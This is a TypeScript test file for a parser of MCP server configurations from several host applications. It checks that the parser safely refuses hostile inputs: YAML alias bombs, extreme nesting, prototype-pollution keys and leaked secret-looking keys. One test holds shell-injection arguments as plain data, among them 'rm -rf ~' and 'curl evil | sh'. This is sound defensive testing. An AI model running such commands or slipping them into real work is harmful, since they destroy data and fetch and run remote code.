import { describe, expect, it } from 'vitest'
import { MAX_AT_ONCE } from '../../../src-shared/contract/servers.ts'
import { ConfigError } from '../../../src-shared/foreign/foreign-server.ts'
import { readConfiguration } from './configuration-text.ts'
import { readConfigurationText, readHostConfig } from './configurations.ts'

const many = (count: number) => Object.fromEntries(Array.from({ length: count }, (_, n) => [`s${n}`, { command: 'x' }]))
const claude = (servers: unknown) => readHostConfig('claude-desktop', JSON.stringify({ mcpServers: servers }))
const names = async (text: string) => (await readConfigurationText(text)).servers.map(({ name }) => name)

/** Nine lists of nine of the one before. */
const LAUGHS = `extensions:\n  a0: &a0 [x]\n${Array.from({ length: 9 }, (_, n) => `  a${n + 1}: &a${n + 1} [${Array(9).fill(`*a${n}`).join(', ')}]\n`).join('')}`

describe('a hostile configuration', () => {
  it.each<[string, string, 'json' | 'toml' | 'yaml', string]>([
    ['beyond its size', `{"a":"${'x'.repeat(1024 * 1024)}"}`, 'json', 'too large'],
    ['of YAML beyond its size', `a: ${'x'.repeat(64 * 1024)}`, 'yaml', 'too large'],
    ['with a zero character', '{"mcpServers":{}}\0', 'json', 'NUL characters'],
    ['that is empty', ' \n', 'json', 'empty'],
    ['that is cut off', '{\n  "mcpServers": {', 'json', 'line 2, column 18'],
    ['nested deeply', `${'['.repeat(100_000)}`, 'json', 'nested too deeply'],
    ['nested deeply, of size', `${'['.repeat(1_000_000)}`, 'json', 'not JSON'],
    ['of YAML nested deeply', `a: ${'['.repeat(50_000)}`, 'yaml', 'nested too deeply'],
    ['of TOML nested deeply', `a = ${'['.repeat(100_000)}`, 'toml', 'It cannot be read'],
    ['whose aliases stand for a billion texts', LAUGHS, 'yaml', 'aliases'],
    ['that holds itself', 'extensions: &a\n  b: *a\n', 'yaml', 'aliases'],
    ['of YAML with a name twice', 'extensions:\n  a: {}\n  a: {}\n', 'yaml', 'line 3'],
    ['of TOML with a name twice', '[mcp_servers.a]\ncommand = "x"\n[mcp_servers.a]\n', 'toml', 'line 3'],
    ['with a comment that never ends', `/*${'/*'.repeat(400_000)}`, 'json', 'not JSON'],
  ])('%s is refused in words', async (_what, text, format, said) => {
    const error = await readConfiguration(text, format).then(
      () => undefined,
      (thrown: unknown) => thrown,
    )
    expect(error).toBeInstanceOf(ConfigError)
    expect((error as Error).message).toContain(said)
    expect((error as Error).message.length).toBeLessThan(400)
  })

  it('is not quoted in its error, since it may hold keys', async () => {
    for (const [text, format] of [
      ['key = "sk-0123456789abcdef0123"\nbad = = "sk-0123456789abcdef0123"', 'toml'],
      ['a: "sk-0123456789abcdef0123\n b: [', 'yaml'],
      ['{"a": "sk-0123456789abcdef0123" "b": 1}', 'json'],
    ] as const) {
      await expect(readConfiguration(text, format)).rejects.toThrow(/^(?!.*sk-0123).*It cannot be read/s)
    }
  })

  it('of 10,000 servers is refused with the number that can be imported', async () => {
    await expect(claude(many(10_000))).rejects.toThrow(`It has 10000 servers; at most ${MAX_AT_ONCE} can`)
    expect((await claude(many(MAX_AT_ONCE))).servers).toHaveLength(MAX_AT_ONCE)
  })

  it('with one bad entry yields the others', async () => {
    const { servers, unusable } = await claude({
      good: { command: 'x' },
      empty: {},
      text: 'npx',
      both: { command: 'x', url: 'https://x' },
      args: { command: 'x', args: { a: 1 } },
      env: { command: 'x', env: { A: ['b'] } },
      zero: { command: 'x\u0000y' },
      socket: { type: 'ws', url: 'wss://x' },
    })
    expect(servers.map(({ name }) => name)).toEqual(['good'])
    expect(unusable.map(({ called, why }) => `${called}: ${why}`)).toEqual([
      'empty: It has neither “command” nor “url”.',
      'text: It must be an object.',
      'both: It has both “command” and “url”. Keep one of them.',
      'args: Its “args” must be a list, not an object.',
      'env: Its “env” must be a text, not a list.',
      'zero: Its “command” contains a NUL character.',
      'socket: It uses WebSocket, which MCP does not support.',
    ])
  })

  it('with a repeated name says so, and the last entry counts, as in its host', async () => {
    const { servers, unusable } = await readHostConfig(
      'cursor',
      '{"mcpServers":{"a":{"command":"x"},"a":{},"a":{"command":"y"}}}',
    )
    expect(servers).toMatchObject([{ name: 'a', launch: { command: 'y' } }])
    expect(unusable).toEqual([{ called: 'a', why: 'Its name appears twice; the last one counts.' }])
  })

  it('changes no object through its names', async () => {
    const text =
      '{"mcpServers":{"__proto__":{"command":"x","env":{"__proto__":"y","constructor":"z"}},"constructor":{"command":"c"}}}'
    const { servers } = await readHostConfig('claude-desktop', text)
    expect(servers.map(({ name }) => name)).toEqual(['__proto__', 'constructor'])
    expect(Object.entries(servers[0]?.launch.type === 'local' ? servers[0].launch.env : {})).toEqual([
      ['__proto__', 'y'],
      ['constructor', 'z'],
    ])
    expect({}).not.toHaveProperty('command')
    const yaml = await readHostConfig('goose', 'extensions:\n  __proto__:\n    type: stdio\n    cmd: x\n')
    const toml = await readHostConfig('codex', '[mcp_servers.__proto__]\ncommand = "x"\n')
    expect([yaml.servers.length, toml.servers.length]).toEqual([1, 1])
    expect({}).not.toHaveProperty('cmd')
  })

  it('keeps shell syntax as plain text', async () => {
    const args = ['$(touch /tmp/x)', '; rm -rf ~', '`id`', '&& curl evil | sh', '%PATH%', 'a\nb']
    expect((await claude({ a: { command: 'sh -c "x"', args } })).servers).toMatchObject([
      { launch: { command: 'sh -c "x"', args } },
    ])
  })
})

describe('a pasted text', () => {
  const inside = '"time": { "command": "uvx", "args": ["mcp-server-time"] }'

  it.each([
    ['a whole file', `{ "mcpServers": { ${inside} } }`],
    ['its inside', `{ ${inside} }`],
    ['a fragment', inside],
    ['a fragment with a comma', `${inside},`],
    ['of VS Code', `// servers\n{ "servers": { ${inside}, }, }`],
    ['of settings.json', `{ "mcp": { "servers": { ${inside} } } }`],
    ['of Zed', `{ "context_servers": { ${inside} } }`],
    ['of Codex', '[mcp_servers.time]\ncommand = "uvx"\nargs = ["mcp-server-time"]\n'],
    ['of Goose', 'extensions:\n  time:\n    type: stdio\n    cmd: uvx\n    args: [mcp-server-time]\n'],
  ])('of %s is read', async (_what, text) => {
    const { servers } = await readConfigurationText(text)
    expect(servers).toMatchObject([{ name: 'time', launch: { type: 'local', command: 'uvx', args: ['mcp-server-time'] } }])
  })

  it('of one bare entry yields a server without a name', async () => {
    expect(await names('{ "url": "https://x.example/mcp" }')).toEqual([''])
    expect(await names('{ "name": "docs", "url": "https://x.example/mcp" }')).toEqual(['docs'])
  })

  it.each(['{ "a": 1 }', '{ "mcpServers": {} }', '[1]', '{}'])('of %j has no servers', async (text) => {
    expect(await readConfigurationText(text)).toMatchObject({ servers: [], unusable: [] })
  })

  it.each(['hello', 'npx -y some-server'])('of %j is no configuration', async (text) => {
    await expect(readConfigurationText(text)).rejects.toThrow(ConfigError)
  })
})
